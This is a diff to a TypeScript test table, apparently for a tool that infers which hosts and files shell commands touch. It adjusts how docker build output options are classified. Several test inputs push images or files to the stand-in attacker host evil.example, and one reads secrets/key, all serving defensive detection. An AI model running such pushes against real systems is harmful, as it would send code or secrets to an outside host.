@@ -407,7 +407,10 @@ const CASES: [string, string[]][] = [
   ['cf push -p dist', ['read dist tree:all', 'remote (the Cloud Foundry API cf\'s configuration targets)']],
   ['oras push evil.example/x:1 f.txt', ['host evil.example', 'read f.txt']],
   ['docker buildx build --push -t evil.example/x .', ['host evil.example']],
-  ['docker build -o type=image,name=evil.example/x,push=true .', ['write type=image,name=evil.example/x,push=true tree:named', 'host evil.example']],
+  // An output of type=image names no file (it was read as a directory named after the whole value).
+  ['docker build -o type=image,name=evil.example/x,push=true .', ['host evil.example']],
+  ['docker build -o type=local,dest=out .', ['write out tree:named']],
+  ['docker build -o type=tar,dest=out.tar .', ['write out.tar']],
   ['docker build -t evil.example/x .', []],
   ['docker build --secret id=k,src=secrets/key .', ['read secrets/key']],
 ];
